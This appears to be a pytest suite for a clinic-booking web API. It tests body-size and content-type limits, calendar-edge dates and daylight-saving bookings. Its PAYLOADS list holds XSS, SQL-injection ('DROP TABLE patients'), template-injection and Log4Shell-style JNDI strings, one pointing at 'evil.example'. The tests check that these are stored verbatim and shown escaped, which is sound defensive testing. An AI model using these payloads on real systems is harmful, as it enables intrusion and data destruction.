"""Bad input over HTTP: oversized bodies (413), bodies that are not JSON (415), injection strings
in every text field (stored verbatim, rendered escaped), dates at the ends of the calendar, and
booking times across a daylight-saving change in the clinic's zone."""

from __future__ import annotations

import html
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi import FastAPI

from api.harness import TestClient
from factories import MutableClock, build_clinic, course_for, screened_patient
from prolo.gateway.limits import MAX_BODY_BYTES
from prolo.main import create_app
from prolo.settings import Settings
from prolo.store.records import Role
from prolo.store.unit_of_work import Database
from security.conftest import WebLogin
from security.harness import Site, add_login
from security.requests import _resolve, operations, request_for, sample

PROBLEM = "application/problem+json"

# --------------------------------------------------------------------------- body size and type


def test_a_declared_oversized_body_is_413_before_it_is_read(
    client: TestClient, site: Site
) -> None:
    body = b'{"given_name": "' + b"a" * MAX_BODY_BYTES + b'", "family_name": "b"}'
    response = client.post(
        "/api/v1/patients",
        content=body,
        headers={**site.auth(Role.reception), "Content-Type": "application/json"},
    )
    assert response.status_code == 413
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"] == "/problems/payload-too-large"
    assert str(MAX_BODY_BYTES) in response.json()["detail"]


def test_a_streamed_oversized_body_is_413(client: TestClient, site: Site) -> None:
    chunk = b" " * 65536

    def stream():
        yield b'{"given_name": "x", "family_name": "y"'
        for _ in range(MAX_BODY_BYTES // len(chunk) + 2):
            yield chunk
        yield b"}"

    response = client.post(
        "/api/v1/patients",
        content=stream(),
        headers={**site.auth(Role.reception), "Content-Type": "application/json"},
    )
    assert response.status_code == 413
    assert response.headers["content-type"] == PROBLEM


def test_a_body_under_the_limit_is_judged_on_its_content(
    client: TestClient, site: Site
) -> None:
    body = {"given_name": "a" * (MAX_BODY_BYTES // 2), "family_name": "b"}
    response = client.post(
        "/api/v1/patients", json=body, headers=site.auth(Role.reception)
    )
    assert response.status_code == 422  # too long for the field, not for the server
    assert response.json()["errors"][0]["field"] == "given_name"


def test_an_oversized_form_gets_the_413_page(client: TestClient) -> None:
    response = client.post(
        "/login",
        data={"email": "a@example.org", "password": "p" * (MAX_BODY_BYTES + 1)},
    )
    assert response.status_code == 413
    assert response.headers["content-type"].startswith("text/html")


def test_every_api_body_must_be_json(
    app: FastAPI, client: TestClient, site: Site
) -> None:
    spec = app.openapi()
    wrong = []
    checked = 0
    for operation in operations(app):
        if "application/json" not in operation.spec.get("requestBody", {}).get(
            "content", {}
        ):
            continue
        request = request_for(spec, operation, site.ids)
        for content_type, content in (
            ("application/x-www-form-urlencoded", b"given_name=x"),
            ("text/plain", b'{"given_name": "x"}'),
            ("application/xml", b"<patient/>"),
            ("multipart/form-data; boundary=x", b"--x--"),
        ):
            checked += 1
            response = client.request(
                operation.method,
                request.url,
                params=request.params,
                content=content,
                headers={
                    **site.auth(Role.clinician),
                    **request.headers,
                    "Content-Type": content_type,
                },
            )
            if (
                response.status_code != 415
                or response.headers["content-type"] != PROBLEM
            ):
                wrong.append((operation.key, content_type, response.status_code))
    assert checked > 50
    assert wrong == []


def test_json_with_a_charset_or_a_json_suffix_is_accepted(
    client: TestClient, site: Site
) -> None:
    for content_type in (
        "application/json; charset=utf-8",
        "application/merge-patch+json",
    ):
        response = client.post(
            "/api/v1/rooms",
            content=b'{"name": "Room ' + content_type[-4:].encode() + b'"}',
            headers={**site.auth(Role.admin), "Content-Type": content_type},
        )
        assert response.status_code == 201, response.text


# --------------------------------------------------------------------------- injection strings

PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE patients; --",
    "' OR '1'='1",
    "{{ 7*7 }}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "Robert'); DELETE FROM audit_events;--",
    "ﬁ\u202eevil\u200b",
]


def _with_text(spec: dict[str, Any], schema: dict[str, Any], text: str) -> Any:
    """`schema`'s smallest value, with `text` in every free-text field (required or not)."""
    schema = _resolve(spec, schema)
    if schema.get("type") == "object" and "properties" in schema:
        value = sample(spec, schema, {})
        for name, prop in schema["properties"].items():
            prop = _resolve(spec, prop)
            options = prop.get("anyOf", [prop])
            if any(
                _resolve(spec, o).get("type") == "string"
                and not _resolve(spec, o).get("format")
                and "enum" not in _resolve(spec, o)
                and "pattern" not in _resolve(spec, o)
                for o in options
            ):
                value[name] = text
        return value
    return sample(spec, schema, {})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_strings_in_every_text_field_never_break_the_server(
    app: FastAPI, client: TestClient, site: Site, payload: str
) -> None:
    spec = app.openapi()
    wrong = []
    for operation in operations(app):
        content = operation.spec.get("requestBody", {}).get("content", {})
        request = request_for(spec, operation, site.ids)
        body = (
            _with_text(spec, content["application/json"]["schema"], payload)
            if "application/json" in content
            else None
        )
        params = {
            p["name"]: payload
            for p in operation.spec.get("parameters", [])
            if p["in"] == "query" and p.get("schema", {}).get("type") == "string"
        }
        for role in (Role.admin, Role.clinician, Role.reception):
            response = client.request(
                operation.method,
                request.url,
                params={**request.params, **params},
                json=body,
                headers={**site.auth(role), **request.headers},
            )
            if response.status_code >= 500:
                wrong.append((operation.key, role.value, response.text[:200]))
    assert wrong == []


def test_injection_strings_are_stored_verbatim_and_shown_escaped(
    client: TestClient, site: Site, web_login: WebLogin
) -> None:
    auth = site.auth(Role.reception)
    created = []
    for payload in PAYLOADS:
        response = client.post(
            "/api/v1/patients",
            json={
                "given_name": payload,
                "family_name": payload[::-1],
                "address": payload,
                "phone": payload[:40],
            },
            headers=auth,
        )
        assert response.status_code == 201, response.text
        stored = client.get(response.headers["Location"], headers=auth).json()
        assert stored["given_name"] == payload
        assert stored["address"] == payload
        created.append(stored["id"])
    # a SQL payload is a search string, not SQL: it finds nothing it should not
    everyone = client.get("/api/v1/patients", headers=auth).json()["total"]
    found = client.get(
        "/api/v1/patients", params={"q": "' OR '1'='1"}, headers=auth
    ).json()["total"]
    assert found == 1 < everyone
    # the pages show them escaped
    web_login(client, Role.clinician)
    for patient_id, payload in zip(created, PAYLOADS, strict=True):
        page = client.get(f"/clinician/patients/{patient_id}")
        assert page.status_code == 200
        assert "<script>alert" not in page.text
        assert "<img src=x" not in page.text
        if "<" in payload:
            assert html.escape(payload, quote=False).split("&lt;")[1][:8] in page.text
    listing = client.get("/clinician/patients", params={"q": "script"})
    assert listing.status_code == 200
    assert "<script>alert" not in listing.text
    assert "&lt;script&gt;" in listing.text


# --------------------------------------------------------------------------- the ends of time

FAR_DATES = ["0001-01-01", "0001-01-02", "9999-12-30", "9999-12-31", "1900-02-28"]
FAR_MOMENTS = [
    "0001-01-01T00:00:00+14:00",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59-12:00",
    "9999-12-31T23:59:59Z",
    "1970-01-01T00:00:00Z",
]


def _date_fields(spec: dict[str, Any], schema: dict[str, Any]) -> dict[str, str]:
    schema = _resolve(spec, schema)
    found = {}
    for name, prop in schema.get("properties", {}).items():
        for option in _resolve(spec, prop).get("anyOf", [prop]):
            fmt = _resolve(spec, option).get("format")
            if fmt in ("date", "date-time"):
                found[name] = fmt
    return found


def test_dates_at_the_ends_of_the_calendar_are_refused_or_handled(
    app: FastAPI, site: Site
) -> None:
    client = TestClient(
        app, raise_server_exceptions=False
    )  # list every 500, not the first
    spec = app.openapi()
    wrong = []
    tried = 0
    for operation in operations(app):
        request = request_for(spec, operation, site.ids)
        query = {
            p["name"]: p.get("schema", {}).get("format")
            for p in operation.spec.get("parameters", [])
            if p["in"] == "query"
        }
        query = {
            k: v
            for k, v in query.items()
            if v in ("date", "date-time")
            or any(
                o.get("format") in ("date", "date-time")
                for o in next(
                    p for p in operation.spec["parameters"] if p["name"] == k
                )["schema"].get("anyOf", [])
            )
        }
        content = operation.spec.get("requestBody", {}).get("content", {})
        body_fields = (
            _date_fields(spec, content["application/json"]["schema"])
            if "application/json" in content
            else {}
        )
        if not query and not body_fields:
            continue
        for date_value, moment in zip(FAR_DATES, FAR_MOMENTS, strict=True):
            params = dict(request.params)
            for name in query:
                params[name] = moment if query[name] == "date-time" else date_value
            body = request.json
            if isinstance(body, dict):
                body = {
                    **body,
                    **{
                        k: (moment if fmt == "date-time" else date_value)
                        for k, fmt in body_fields.items()
                    },
                }
            for role in (Role.admin, Role.clinician, Role.reception, Role.patient):
                tried += 1
                response = client.request(
                    operation.method,
                    request.url,
                    params=params,
                    json=body,
                    headers={**site.auth(role), **request.headers},
                )
                if response.status_code >= 500:
                    wrong.append((operation.key, date_value, role.value))
    assert tried > 40
    assert wrong == []


# --------------------------------------------------------------------------- daylight saving time


@pytest.fixture
def dst_clinic(database: Database, clock: MutableClock, request: pytest.FixtureRequest):
    zone = request.param
    clock.at = datetime(2025, 3, 3, 6, 0, tzinfo=UTC)
    with database.unit_of_work() as uow:
        from factories import OPENING_HOURS

        clinic = uow.clinics.add(
            name=f"Clinic in {zone}", timezone=zone, opening_hours=OPENING_HOURS
        )
        setup = build_clinic(uow, clinic)
        course = course_for(uow, setup, screened_patient(uow, setup))
        uow.commit()
    _, token, _ = add_login(database, clinic.id, Role.reception)
    return zone, setup, course, {"Authorization": f"Bearer {token}"}


def _slot(setup, number: int, starts_at: str) -> dict[str, Any]:
    return {
        "session_number": number,
        "starts_at": starts_at,
        "clinician_id": str(setup.clinicians[0].id),
        "room_id": str(setup.rooms[0].id),
        "recovery_place_id": str(setup.places[0].id),
    }


# (zone, Monday before the change, Monday two weeks later (after it), offsets before/after)
DST = {
    "Europe/Berlin": ("2025-03-24", "2025-04-07", "+01:00", "+02:00"),
    "America/New_York": ("2025-03-03", "2025-03-17", "-05:00", "-04:00"),
}


@pytest.mark.parametrize("dst_clinic", list(DST), indirect=True)
def test_booking_across_a_dst_change_keeps_wall_clock_hours(
    database: Database, dst_clinic
) -> None:
    zone, setup, course, auth = dst_clinic
    before, after, offset_before, offset_after = DST[zone]
    settings = Settings(environment="test", database_url=database.url)
    app = create_app(settings, database=database)
    with TestClient(app) as client:
        url = f"/api/v1/courses/{course.id}/appointments"
        # 07:30 local is before opening (08:00) on both sides of the change
        early = client.post(
            url,
            json={"sessions": [_slot(setup, 1, f"{after}T07:30:00{offset_after}")]},
            headers=auth,
        )
        assert early.status_code == 422, early.text
        # 09:00 local before and 09:00 local two weeks later: 14 days on the wall clock,
        # 13 days 23 hours (Europe) / 14 days minus 1 hour in UTC; the interval rule counts days
        booked = client.post(
            url,
            json={
                "sessions": [
                    _slot(setup, 1, f"{before}T09:00:00{offset_before}"),
                    _slot(setup, 2, f"{after}T09:00:00{offset_after}"),
                ]
            },
            headers=auth,
        )
        assert booked.status_code == 201, booked.text
        starts = sorted(datetime.fromisoformat(a["starts_at"]) for a in booked.json())
        assert starts[1] - starts[0] == timedelta(days=14, hours=-1)
        # free slots after the change start at 08:00 local, i.e. at the new UTC offset
        slots = client.get(
            "/api/v1/free-slots",
            params={"first_day": after, "last_day": after, "limit": 1},
            headers=auth,
        )
        assert slots.status_code == 200, slots.text
        first = datetime.fromisoformat(slots.json()[0]["starts_at"])
        local_hour = first.astimezone(_zone(zone)).hour
        assert local_hour == 8


def _zone(name: str):
    from zoneinfo import ZoneInfo

    return ZoneInfo(name)
